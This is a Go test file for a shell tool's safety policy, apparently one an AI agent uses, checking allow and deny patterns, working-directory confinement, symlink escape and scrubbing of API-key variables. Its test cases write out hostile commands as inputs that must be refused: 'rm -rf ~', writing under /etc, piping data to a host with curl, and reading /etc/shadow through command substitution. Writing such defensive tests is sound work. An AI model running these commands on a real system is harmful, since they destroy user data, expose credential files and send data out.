package shell

import (
	"bytes"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

func TestPolicyRefusesAndLogs(t *testing.T) {
	dir := t.TempDir()
	outside := t.TempDir()
	if err := os.Symlink(outside, filepath.Join(dir, "escape")); err != nil {
		t.Fatal(err)
	}
	os.Mkdir(filepath.Join(dir, "sub"), 0o755)
	t.Setenv("SAUCER_TEST_API_KEY", "sk-secret")
	t.Setenv("SAUCER_TEST_VISIBLE", "yes")
	logs := &syncBuffer{}
	c := connect(t, Options{Dir: dir, Logger: slog.New(slog.NewTextHandler(logs, nil)), Policy: Policy{
		Allow:      []string{"echo *", "ls*", "env", "pwd", "touch *"},
		Deny:       []string{"*rm -rf*", "touch /*"},
		ConfineCwd: true,
		ScrubEnv:   []string{"*_API_KEY"},
	}})
	tests := []struct {
		name    string
		args    map[string]any
		refusal string // "" when the command must run
	}{
		{"allowed", map[string]any{"command": "echo hi && ls -a"}, ""},
		{"denied part", map[string]any{"command": "echo hi; rm -rf ~"}, "matches a denied pattern (*rm -rf*, touch /*)"},
		{"denied whole", map[string]any{"command": "touch /etc/x"}, "matches a denied pattern"},
		{"not allowed", map[string]any{"command": "echo ok | curl -d @- example.invalid"}, `"curl -d @- example.invalid" is not among the allowed commands`},
		{"substitution", map[string]any{"command": "echo $(cat /etc/shadow)"}, "command substitution"},
		{"cwd inside", map[string]any{"command": "pwd", "cwd": "sub"}, ""},
		{"cwd outside", map[string]any{"command": "pwd", "cwd": outside}, "is outside the working directory"},
		{"cwd symlink escape", map[string]any{"command": "pwd", "cwd": "escape"}, "is outside the working directory"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, text, isErr := run(t, c, tt.args)
			if tt.refusal == "" {
				if isErr {
					t.Fatalf("refused: %s", text)
				}
				return
			}
			if !isErr || !strings.HasPrefix(text, "policy: ") || !strings.Contains(text, tt.refusal) {
				t.Errorf("got %q (error %v), want a policy refusal with %q", text, isErr, tt.refusal)
			}
		})
	}
	if n := strings.Count(logs.String(), "shell policy refused a command"); n != 6 {
		t.Errorf("%d refusals logged, want 6:\n%s", n, logs)
	}
	out, _, _ := run(t, c, map[string]any{"command": "env", "env": map[string]any{"MINE_API_KEY": "given"}})
	if strings.Contains(out.Stdout, "sk-secret") || !strings.Contains(out.Stdout, "SAUCER_TEST_VISIBLE=yes") || !strings.Contains(out.Stdout, "MINE_API_KEY=given") {
		t.Errorf("environment not scrubbed as configured:\n%s", out.Stdout)
	}
}

func TestPolicyPatterns(t *testing.T) {
	if _, err := NewChecked(Options{Policy: Policy{Deny: []string{" "}}}); err == nil {
		t.Error("an empty pattern was accepted")
	}
	got := parts("a; b && c || d | e & f\ng")
	if strings.Join(got, ",") != "a,b,c,d,e,f,g" {
		t.Errorf("parts: %q", got)
	}
}

// syncBuffer is a bytes.Buffer safe for the logger's and the test's
// goroutines.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}
